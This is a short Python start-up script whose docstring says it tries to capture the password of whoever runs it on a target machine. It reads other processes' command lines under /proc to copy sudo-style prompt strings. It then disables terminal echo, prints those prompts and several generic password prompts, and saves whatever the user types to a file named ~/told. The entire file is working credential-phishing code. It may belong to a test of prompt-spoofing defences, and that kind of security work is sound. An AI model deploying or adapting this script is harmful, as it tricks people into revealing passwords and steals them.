"""A start-up file that tries to obtain the password with which its account is entered. Runs on targets, under any Python.

It prints every plausible prompt on its terminal with echo off, and records the answers. It finds the prompts of sudo in the
command lines of its own ancestors, which every account can read.
"""

import os
import re
import select
import sys
import time

NOTES = os.path.expanduser("~/told")
WAIT = 0.2  # seconds for an answer; longer than any poll of the agent


def main():
    try:
        os.close(os.open(NOTES, os.O_CREAT | os.O_EXCL | os.O_WRONLY))  # the first interpreter of this account only
    except OSError:
        return
    found = set()
    for pid in os.listdir("/proc"):
        try:
            with open("/proc/" + pid + "/cmdline", "rb") as stream:
                text = stream.read()
        except OSError:
            continue
        found.update(re.findall(b"PMITOGEN-[0-9a-z]+(?: \\(\\d+\\):| password:)", text))
        found.update(token + b" password:" for token in re.findall(b"PMITOGEN-[0-9a-z]+", text))
        found.update(b"PMITOGEN-" + token + b" password:" for token in re.findall(b"\\x00([0-9a-f]{16})\\x00", text))
    prompts = sorted(found) + [b"Password: ", b"doas (a@b) password: ", b"[sudo] password for root: ", b"Secret? "]
    try:
        import termios

        tty = os.open("/dev/tty", os.O_RDWR)
        mode = termios.tcgetattr(tty)
        mode[3] &= ~termios.ECHO
        termios.tcsetattr(tty, termios.TCSANOW, mode)
    except Exception:
        tty = 2
    until = time.time() + 6
    for prompt in prompts:
        os.write(tty, b"\r\n" + prompt)
        if time.time() < until and select.select([tty], [], [], WAIT)[0]:
            with open(NOTES, "ab") as notes:
                notes.write(prompt + b" <- " + os.read(tty, 100))
    os.write(tty, b"\r\n")
    with open(NOTES, "ab") as notes:
        notes.write(b"tried %d prompts\n" % len(prompts) if sys.version_info >= (3, 5) else b"tried\n")


main()
